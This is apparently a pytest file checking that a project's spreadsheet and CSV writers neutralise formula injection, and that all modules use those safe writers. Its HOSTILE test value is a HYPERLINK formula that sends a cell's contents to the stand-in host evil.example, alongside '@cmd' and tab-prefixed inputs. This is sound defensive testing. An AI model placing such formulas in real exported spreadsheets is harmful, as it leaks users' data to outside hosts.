"""Every spreadsheet the project writes goes through core.interfaces.spreadsheets."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl

from jembatan.core.interfaces.spreadsheets import SafeWorkbook, safe_csv_writer

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&F2,"x")'
SRC = Path(__file__).resolve().parents[2] / "src" / "jembatan"
WRAPPER = SRC / "core" / "interfaces" / "spreadsheets.py"
RAW_WRITERS = re.compile(r"\b(?:Workbook|csv\.writer|csv\.DictWriter|xlsxwriter\.\w+)\(")


def test_safe_workbook_neutralises_every_way_of_filling_a_cell() -> None:
    book = SafeWorkbook()
    sheet = book.active
    sheet.append([HOSTILE, -5, "PT Maju"])
    sheet["A2"] = "+62 21 555"
    sheet.cell(row=3, column=1, value="@cmd")
    other = book.create_sheet("second")
    other.append(["\tx", None])
    read = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))
    first = read.worksheets[0]
    assert [(c.value, c.data_type) for c in first[1]] == [
        ("'" + HOSTILE, "s"),
        (-5, "n"),
        ("PT Maju", "s"),
    ]
    assert first["A2"].value == "'+62 21 555"
    assert first["A3"].value == "'@cmd"
    assert read["second"]["A1"].value == "'\tx"


def test_safe_csv_writer_neutralises_text_cells() -> None:
    handle = io.StringIO()
    safe_csv_writer(handle).writerows([[HOSTILE, -5], ["ok", "-x"]])
    rows = list(csv.reader(io.StringIO(handle.getvalue())))
    assert rows == [["'" + HOSTILE, "-5"], ["ok", "'-x"]]


def test_no_module_writes_spreadsheets_without_the_safe_writers() -> None:
    offenders = [
        f"{path.relative_to(SRC)}:{number}"
        for path in sorted(SRC.rglob("*.py"))
        if path != WRAPPER
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if RAW_WRITERS.search(line) and "SafeWorkbook(" not in line
    ]
    assert offenders == []
